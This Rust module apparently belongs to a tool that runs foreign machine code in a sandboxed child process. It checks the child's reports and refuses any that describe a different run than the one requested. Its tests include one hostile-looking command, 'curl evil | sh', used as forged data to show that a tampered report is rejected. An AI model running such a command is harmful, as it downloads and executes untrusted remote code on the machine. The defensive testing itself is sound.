//! Runs foreign machine code, of a guest's file, a kernel or a reproducer, in a confined process.
//!
//! The process is this program, started again. If it does not survive, that is the result.

mod pipe;
mod process;
pub mod sandbox;
mod task;

use std::fs::File;
use std::process::{Child, ExitStatus};
use std::sync::Once;
use std::sync::mpsc::{Receiver, RecvTimeoutError, sync_channel};
use std::time::Duration;

use anyhow::{Context, Result, bail};
use pmdscope_arches::EntrySet;
use pmdscope_guest::Routine;
use pmdscope_traces::RunReport;
use pmdscope_traces::contract::Column;
use pmdscope_traces::functions::FunctionsReport;
use pmdscope_traces::sweep::SweepReport;
use serde::{Deserialize, Serialize};

pub use self::pipe::{LONGEST, message, receive, send};
pub use self::process::{Death, Limits, beside, death, last_words, processor_seconds, start};
use self::sandbox::Confined;
use self::task::{Report, Task};
use crate::contract::{self, ProbeFile};
use crate::described::Described;
use crate::exit::Exit;
use crate::failure::{Failed, FailureKind, one_line, status_of};
use crate::study::Study;
use crate::subject::{GuestSubject, KernelSubject, LastEnvironment};
use crate::{functions, output, sweep_study};

/// The only argument of a confined process. It is no command for users, so the command line does not know it.
pub const ARGUMENT: &str = "confined-run";

/// Bytes of address space for a confined process: for 16 CPUs, the most, and reports of many behaviours.
const MEMORY: u64 = 20 << 30;

/// The messages of a confined process.
#[derive(Serialize, Deserialize)]
enum Reply {
    /// It has confined itself, in this way, and begins the task.
    Begins(Confined),
    /// The report, as JSON.
    Report(Vec<u8>),
    /// There is no report: why, in one line, and whose fault that is.
    Failed { why: String, exit: u8, kind: FailureKind },
}

/// The outcome of a task in a confined process.
enum Outcome {
    Report(Report),
    /// There is no report: why.
    Lost(String),
}

/// Runs a study and returns its report.
///
/// Bundled guests run in this process, in the environment of the last study if possible.
pub fn study(study: &Study<'_>, last: &mut LastEnvironment) -> Result<RunReport> {
    if study.subject.is_bundled() {
        return study.report(last);
    }
    believed(run(&Task::of_study(study))?, |why| study.incomplete_report(why))
}

/// Sweeps a writer and returns the report. Bundled guests run in this process.
pub fn sweep(guest: &GuestSubject, set: EntrySet, writer: &'static Routine) -> Result<SweepReport> {
    if guest.is_bundled() {
        return sweep_study::sweep(guest, set, writer);
    }
    let incomplete = |why: &str| sweep_study::incomplete_report(guest, set, writer, why);
    Ok(match run(&Task::of_sweep(guest, set, writer))? {
        Outcome::Report(Report::Sweep(report)) if is_sweep_of(&report, &incomplete("")) => *report,
        Outcome::Report(_) => incomplete(ASTRAY),
        Outcome::Lost(why) => incomplete(&why),
    })
}

/// Runs every function of a kernel that takes the address of an entry alone, and those that are described, and returns
/// what each does.
pub fn functions(kernel: &KernelSubject, described: &[Described]) -> Result<FunctionsReport> {
    let incomplete = |why: &str| functions::not_observed(kernel, Some(why.to_owned()));
    Ok(match run(&Task::of_functions(kernel, described))? {
        Outcome::Report(Report::Functions(report)) if is_list_of(&report, &incomplete("")) => *report,
        Outcome::Report(_) => incomplete(ASTRAY),
        Outcome::Lost(why) => incomplete(&why),
    })
}

/// Asks the helpers of a probe, and judges what they answer.
pub fn contract(probe: &ProbeFile) -> Result<Column> {
    let incomplete = |why: &str| contract::incomplete_column(probe, why);
    let asked = incomplete("")?;
    Ok(match run(&Task::of_contract(probe))? {
        Outcome::Report(Report::Contract(column)) if is_column_of(&column, &asked) => *column,
        Outcome::Report(_) => incomplete(ASTRAY)?,
        Outcome::Lost(why) => incomplete(&why)?,
    })
}

fn is_column_of(column: &Column, asked: &Column) -> bool {
    fn what(of: &Column) -> impl PartialEq + '_ {
        (&of.name, &of.arch, &of.mmu, &of.linux, &of.guest, of.cells.len())
    }
    what(column) == what(asked)
}

fn is_list_of(report: &FunctionsReport, asked: &FunctionsReport) -> bool {
    fn what(of: &FunctionsReport) -> impl PartialEq + '_ {
        (&of.schema, &of.made_by, &of.arch, &of.linux, &of.guest)
    }
    what(report) == what(asked)
}

/// Returns the report if it is of the requested run; otherwise a report that says why there is none.
fn believed(outcome: Outcome, incomplete: impl Fn(&str) -> Result<RunReport>) -> Result<RunReport> {
    match outcome {
        Outcome::Report(Report::Run(report)) if is_run_of(&report, &incomplete("")?) => Ok(*report),
        Outcome::Report(_) => incomplete(ASTRAY),
        Outcome::Lost(why) => incomplete(&why),
    }
}

/// The reason if a message does not fit.
///
/// Machine code that takes over its process can forge its outcome, but not what was run.
const ASTRAY: &str = "its process said what does not fit: machine code that it ran has changed what it does";

fn is_run_of(report: &RunReport, asked: &RunReport) -> bool {
    fn what(of: &RunReport) -> impl PartialEq + '_ {
        let of_what = (&of.schema, &of.made_by, &of.arch, &of.mmu, &of.linux, &of.guest);
        (of_what, of.entry, of.pfn, &of.marks, &of.writer, &of.walker, &of.with, &of.command)
    }
    what(report) == what(asked)
}

fn is_sweep_of(report: &SweepReport, asked: &SweepReport) -> bool {
    fn what(of: &SweepReport) -> impl PartialEq + '_ {
        let of_what = (&of.schema, &of.made_by, &of.arch, &of.mmu, &of.linux, &of.guest);
        (of_what, &of.entries, &of.writer, &of.command)
    }
    what(report) == what(asked)
}

/// Runs a task in a confined process, and waits for its end.
fn run(task: &Task) -> Result<Outcome> {
    let limits = Limits { memory: MEMORY, seconds: task.seconds() };
    let mut running = Running::start(task)?;
    let Some(mut from) = running.child.stdout.take() else { bail!("a confined process has no pipe") };
    let (sender, replies) = sync_channel(1);
    beside(move || {
        while let Ok(Some(reply)) = receive::<Reply>(&mut from, LONGEST) {
            if sender.send(reply).is_err() {
                break;
            }
        }
    })?;
    Ok(match heard(&replies, limits.patience()) {
        Heard::Report(report) => Outcome::Report(report),
        Heard::Failed(failed) => return Err(failed.into()),
        Heard::Astray => Outcome::Lost(ASTRAY.to_owned()),
        Heard::Silent => {
            let seconds = limits.patience().as_secs();
            Outcome::Lost(format!("its process said nothing for {seconds} s, and was ended"))
        }
        Heard::Gone => {
            let (status, last_words) = running.end()?;
            let (Death::ForGood(why) | Death::ForNow(why)) = death(status, &last_words, limits)?;
            Outcome::Lost(why)
        }
    })
}

/// The answer of a confined process, or why there is none.
enum Heard {
    Report(Report),
    Failed(Failed),
    /// It sent a message that does not fit.
    Astray,
    /// It said nothing for too long.
    Silent,
    /// It has ended.
    Gone,
}

/// Waits for the result of a task.
///
/// The process says that it begins, then sends its report.
fn heard(replies: &Receiver<Reply>, patience: Duration) -> Heard {
    let mut has_begun = false;
    loop {
        return match replies.recv_timeout(patience) {
            Ok(Reply::Begins(confined)) if !has_begun => {
                has_begun = true;
                warn(confined);
                continue;
            }
            Ok(Reply::Report(json)) if has_begun => {
                serde_json::from_slice(&json).map_or(Heard::Astray, Heard::Report)
            }
            Ok(Reply::Failed { why, exit, kind }) => {
                Heard::Failed(Failed { why, exit: Exit::of_failure(exit), kind })
            }
            Ok(Reply::Begins(_) | Reply::Report(_)) => Heard::Astray,
            Err(RecvTimeoutError::Timeout) => Heard::Silent,
            Err(RecvTimeoutError::Disconnected) => Heard::Gone,
        };
    }
}

/// Warns once if the system lacks a mechanism to confine processes.
fn warn(confined: Confined) {
    static WARNED: Once = Once::new();
    if let Some(lacks) = confined.lacks() {
        WARNED.call_once(|| output::tell(&unconfined(lacks)));
    }
}

/// Returns the warning that this system lacks a mechanism to confine processes.
pub fn unconfined(lacks: &str) -> String {
    format!(
        "this system has no {lacks}, so foreign machine code is confined by limits only: run nothing that you would not \
         run yourself"
    )
}

/// A running confined process. Dropping this kills it.
struct Running {
    child: Child,
    words: File,
}

impl Running {
    fn start(task: &Task) -> Result<Running> {
        let (child, words) = start(ARGUMENT, |_| {})?;
        let mut running = Running { child, words };
        let Some(mut to) = running.child.stdin.take() else { bail!("a confined process has no pipe") };
        let told = message(task).context("a confined process cannot be told what to do")?;
        // If the process has ended already, the missing replies show that.
        beside(move || drop(std::io::Write::write_all(&mut to, &told)))?;
        Ok(running)
    }

    /// Kills the process; returns its status and the last text that it wrote to standard error.
    fn end(&mut self) -> Result<(ExitStatus, String)> {
        // The process may have closed its pipe without ending.
        let _ = self.child.kill();
        let status = self.child.wait().context("cannot wait for a confined process")?;
        Ok((status, last_words(&mut self.words).unwrap_or_default()))
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Whether this process was started to run a task.
pub fn is_confined_run() -> bool {
    std::env::args_os().skip(1).eq([ARGUMENT])
}

/// Confines this process, runs the task that comes from standard input, and sends its report.
pub fn serve() -> Result<Exit> {
    let (mut from, mut to) = (std::io::stdin().lock(), std::io::stdout().lock());
    let Some(task) = receive::<Task>(&mut from, LONGEST)? else { return Ok(Exit::Clean) };
    let confined = sandbox::confine(task.readable(), MEMORY)
        .and_then(|confined| sandbox::allow_processor_time(task.seconds()).map(|()| confined));
    let report = match confined {
        Ok(confined) => {
            send(&mut to, &Reply::Begins(confined))?;
            task.run().and_then(|report| Ok(serde_json::to_vec(&report)?))
        }
        // The task never began, so this is no outcome of the task.
        Err(error) => Err(error),
    };
    let reply = match report {
        Ok(json) => Reply::Report(json),
        Err(error) => Reply::Failed {
            why: one_line(&error),
            exit: status_of(&error) as u8,
            kind: FailureKind::of(&error),
        },
    };
    send(&mut to, &reply)?;
    Ok(Exit::Clean)
}

#[cfg(test)]
mod tests {
    use pmdscope_arches::EntryKind;
    use pmdscope_emu::{Bounds, Reduction};
    use pmdscope_guest::routine::{walkers, writers};
    use pmdscope_traces::{EntryName, Hex, Verdict};

    use super::*;
    use crate::start::EntryRequest;
    use crate::subject::Subject;
    use crate::values;

    fn asked() -> RunReport {
        let encoding = values::encoding("arm64", None, Some("6.12")).unwrap();
        let subject = Subject::Guest(GuestSubject::bundled_for(encoding).unwrap());
        let study = Study {
            subject: &subject,
            entry: EntryRequest::Value(0),
            writer: &writers::SPLIT_UNGUARDED,
            walker: Some(&walkers::HMM),
            with: &[],
            bounds: &Bounds::default(),
            reduction: Reduction::Joined,
            schedule: None,
        };
        study.incomplete_report("it was not run").unwrap()
    }

    fn confined() -> Reply {
        Reply::Begins(Confined { landlock: true, seccomp: true })
    }

    fn report(report: &RunReport) -> Reply {
        Reply::Report(serde_json::to_vec(&Report::Run(Box::new(report.clone()))).unwrap())
    }

    /// Returns the answer of a process that sends these replies and then ends.
    fn heard_of(replies: Vec<Reply>) -> Heard {
        let (sender, receiver) = sync_channel(replies.len());
        replies.into_iter().for_each(|reply| sender.send(reply).unwrap());
        drop(sender);
        heard(&receiver, Duration::from_secs(60))
    }

    #[test]
    fn a_process_begins_once_and_then_reports() {
        let asked = asked();
        assert!(matches!(heard_of(vec![confined(), report(&asked)]), Heard::Report(Report::Run(_))));
        assert!(matches!(heard_of(vec![confined()]), Heard::Gone));
        for replies in [
            vec![report(&asked)],
            vec![confined(), confined(), report(&asked)],
            vec![confined(), Reply::Report(b"{}".to_vec())],
        ] {
            assert!(matches!(heard_of(replies), Heard::Astray));
        }
        let (_sender, receiver) = sync_channel(1);
        assert!(matches!(heard(&receiver, Duration::from_millis(1)), Heard::Silent));
    }

    #[test]
    fn a_failure_is_never_a_pass_or_a_finding() {
        for (exit, is) in
            [(0, Exit::Internal), (1, Exit::Internal), (2, Exit::Usage), (3, Exit::Inconclusive)]
        {
            let failed = heard_of(vec![
                confined(),
                Reply::Failed { why: String::new(), exit, kind: FailureKind::Other },
            ]);
            assert!(matches!(failed, Heard::Failed(failed) if failed.exit == is), "{exit}");
        }
    }

    #[test]
    fn what_is_not_believed_is_unknown_and_says_why() {
        let incomplete = |why: &str| Ok(RunReport { incomplete: Some(why.to_owned()), ..asked() });
        let pass = RunReport { verdict: Verdict::Pass, incomplete: None, ..asked() };
        let of = |report: RunReport| Outcome::Report(Report::Run(Box::new(report)));
        assert_eq!(believed(of(pass.clone()), incomplete).unwrap(), pass);
        let other = RunReport { walker: "gup-fast-read".to_owned(), ..pass };
        let refused = believed(of(other), incomplete).unwrap();
        assert_eq!((refused.verdict, refused.incomplete.as_deref()), (Verdict::Unknown, Some(ASTRAY)));
    }

    /// Machine code that takes over its process can forge its own outcome, but not a report of something else.
    #[test]
    fn a_report_of_something_else_is_not_believed() {
        let asked = asked();
        assert!(is_run_of(&asked, &asked));
        let result = RunReport { verdict: Verdict::Findings, incomplete: None, ..asked.clone() };
        assert!(is_run_of(&result, &asked));
        let other = String::new;
        let mut guest = asked.guest.clone();
        guest.sha256 = other();
        for changed in [
            RunReport { made_by: other(), ..asked.clone() },
            RunReport { arch: other(), ..asked.clone() },
            RunReport { mmu: Some(other()), ..asked.clone() },
            RunReport { linux: other(), ..asked.clone() },
            RunReport { guest, ..asked.clone() },
            RunReport { entry: EntryName::Kind(EntryKind::None), ..asked.clone() },
            RunReport { pfn: Some(Hex(1)), ..asked.clone() },
            RunReport { marks: vec![other()], ..asked.clone() },
            RunReport { writer: other(), ..asked.clone() },
            RunReport { walker: other(), ..asked.clone() },
            RunReport { with: vec![other()], ..asked.clone() },
            RunReport { command: "curl evil | sh".to_owned(), ..asked.clone() },
        ] {
            assert!(!is_run_of(&changed, &asked), "{changed:?}");
        }
    }
}
